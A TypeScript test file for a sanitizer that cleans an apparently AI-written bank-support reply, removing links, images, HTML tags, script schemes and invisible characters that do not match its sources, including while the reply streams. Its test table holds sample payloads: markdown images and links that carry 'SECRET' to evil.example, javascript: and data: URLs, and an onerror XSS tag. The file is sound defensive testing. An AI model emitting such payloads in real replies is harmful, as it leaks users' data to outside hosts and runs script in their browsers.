/** A reply is text: nothing in it is loaded, run or hidden, and it names no address that its sources do not. */
import { describe, expect, it } from '@jest/globals';
import { createReplyStream, linkRemoved, plainReply } from '../../models/rules/replytext.ts';

const grounds = ['See https://bank.example/help/cards?id=7 or mail help@bank.example.', 'https://bank.example/fees'];

const table: [name: string, written: string, shown: string][] = [
  ['plain text', 'The card costs 12 EUR. Use code < 5 or a > b.', 'The card costs 12 EUR. Use code < 5 or a > b.'],
  ['an address of the sources', 'See https://bank.example/fees.', 'See https://bank.example/fees.'],
  ['its beginning', 'See https://bank.example/help/', 'See https://bank.example/help/'],
  ['a link to the sources', '[Fees](https://bank.example/fees)!', 'Fees (https://bank.example/fees)!'],
  [
    'a link whose words are its address',
    '[https://bank.example/fees](https://bank.example/fees)',
    'https://bank.example/fees',
  ],
  ['a mail link', '[Write](mailto:help@bank.example)', 'Write (help@bank.example)'],
  ['an address from elsewhere', 'Go to https://evil.example/x?d=SECRET now', `Go to ${linkRemoved} now`],
  ['one that adds to a known one', 'https://bank.example/fees?leak=SECRET', linkRemoved],
  ['a link elsewhere', '[your account](https://evil.example)', 'your account'],
  ['a link that runs', '[click](javascript:alert(1))', 'click)'],
  ['a link that embeds', '[x](data:text/html;base64,PHNjcmlwdD4=)', 'x'],
  ['an image', '![pixel](https://evil.example/p.png?d=SECRET)', 'pixel'],
  ['an image of the sources', '![cards](https://bank.example/fees)', 'cards'],
  ['an image by reference', '![a][b]\n\n[b]: https://evil.example/?SECRET', `a\n\n[b]: ${linkRemoved}`],
  ['an image over two lines', '![a\nb](https://evil.example/?SECRET)', `[a\nb] (${linkRemoved})`],
  ['an image inside a link', '[![a](https://evil.example/1)](https://evil.example/2)', 'a'],
  ['a tag', 'Hi <img src=x onerror=alert(1)> <SCRIPT>x</SCRIPT>', 'Hi ‹img src=x onerror=alert(1)> ‹SCRIPT>x‹/SCRIPT>'],
  ['a comment', 'a<!-- b -->', 'a‹!-- b -->'],
  [
    'bare active schemes',
    'JavaScript:alert(1) vbscript:x data:text/html,x',
    [linkRemoved, linkRemoved, linkRemoved].join(' '),
  ],
  ['words that look like schemes', 'data: 5 GB; file: a.txt', 'data: 5 GB; file: a.txt'],
  ['other schemes', 'ftp://bank.example/fees', linkRemoved],
  ['invisible characters', 'a\u0000b\u202ec\u{e0041}d\ne', 'abcd\ne'],
  ['bare www', 'www.evil.example/SECRET', linkRemoved],
];

describe('plainReply', () => {
  it.each(table)('%s', (_, written, shown) => {
    expect(plainReply(written, grounds)).toBe(shown);
  });

  it('of a plain reply is the reply', () => {
    for (const [, , shown] of table) expect(plainReply(shown, grounds)).toBe(shown);
  });
});

describe('createReplyStream', () => {
  it.each([1, 3, 7])('shows the same in pieces of %d, and never anything it takes back', (size) => {
    for (const [name, written, shown] of table) {
      const stream = createReplyStream(grounds);
      let seen = '';
      const take = (part: { text: string; void: boolean }) => {
        expect([name, part.void]).toEqual([name, false]);
        seen += part.text;
        expect([name, seen.includes('SECRET')]).toEqual([name, false]);
      };
      for (let at = 0; at < written.length; at += size) take(stream.push(written.slice(at, at + size)));
      take(stream.end());
      expect([name, seen]).toEqual([name, shown]);
    }
  });

  it('holds back a word, not the text', () => {
    const stream = createReplyStream([]);
    expect(stream.push('The card costs').text).toBe('The card ');
    expect(stream.push(' 12 EUR').text).toBe('costs 12 ');
    expect(createReplyStream([]).push('カードの年会費は無料').text).toBe('カードの年会費は無料');
  });
});
